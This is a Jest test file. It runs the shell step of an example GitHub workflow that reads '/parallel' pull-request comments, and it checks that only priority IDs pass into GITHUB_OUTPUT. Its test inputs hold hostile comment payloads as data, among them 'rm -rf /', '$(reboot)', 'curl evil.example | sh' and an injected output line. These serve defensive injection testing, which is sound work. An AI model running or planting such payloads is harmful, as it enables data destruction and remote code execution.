import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'yaml'
import { parsePriorities } from '../../src/inputs/priorities.js'

// The example that reads `/parallel …` from a pull-request comment: its shell step is run here
// as the runner runs it (bash, the comment in BODY), and what it writes to GITHUB_OUTPUT is
// what the action's `priorities` input gets. IDs, decimal IDs and ranges survive; anything
// else a commenter writes is dropped.

const FILE = 'examples/workflows/comment-trigger.yml'

interface Step {
  id?: string
  run?: string
}
const steps = (parse(readFileSync(FILE, 'utf8')) as { jobs: Record<string, { steps: Step[] }> })
  .jobs.agents.steps
const script = steps.find((step) => step.id === 'ask')?.run ?? ''

/** The `priorities` output of the step for a comment `body`. */
function prioritiesFor(body: string): string {
  const folder = mkdtempSync(join(tmpdir(), 'comment-trigger-'))
  try {
    const output = join(folder, 'output')
    writeFileSync(output, '')
    const file = join(folder, 'step.sh')
    writeFileSync(file, script)
    // As the runner runs a `run:` step whose shell is bash.
    const ran = spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', file], {
      env: { PATH: process.env.PATH, BODY: body, GITHUB_OUTPUT: output },
      encoding: 'utf8'
    })
    expect(ran.stderr).toBe('')
    expect(ran.status).toBe(0)
    const lines = readFileSync(output, 'utf8').split('\n').filter(Boolean)
    expect(lines).toHaveLength(1)
    const [key, ...value] = lines[0].split('=')
    expect(key).toBe('priorities')
    return value.join('=')
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}

describe(FILE, () => {
  it('has the step that reads the comment', () => {
    expect(script).toContain('BODY')
  })

  it.each([
    ['/parallel 65 66', '65 66', [65, 66]],
    ['/parallel 2.5', '2.5', [2.5]],
    ['/parallel 1-3, 4.5', '1-3, 4.5', [1, 2, 3, 4.5]],
    ['/parallel 7\r\nand a second line', '7', [7]],
    ['/parallel 7\nrm -rf /', '7', [7]]
  ])('%j gives priorities %j', (body, text, ids) => {
    const given = prioritiesFor(body)
    expect(given).toBe(text)
    expect(parsePriorities(given)).toEqual(ids)
  })

  it.each([
    '/parallel 1 $(reboot)',
    '/parallel 1; curl evil.example | sh',
    '/parallel 1`id`',
    '/parallel 1\' "x" > /etc/passwd',
    '/parallel 1\u0007\u001b[31m',
    '/parallel 1\npriorities=9999'
  ])('drops what is not a priority list from %j', (body) => {
    expect(prioritiesFor(body)).toMatch(/^[0-9., -]*$/)
  })
})
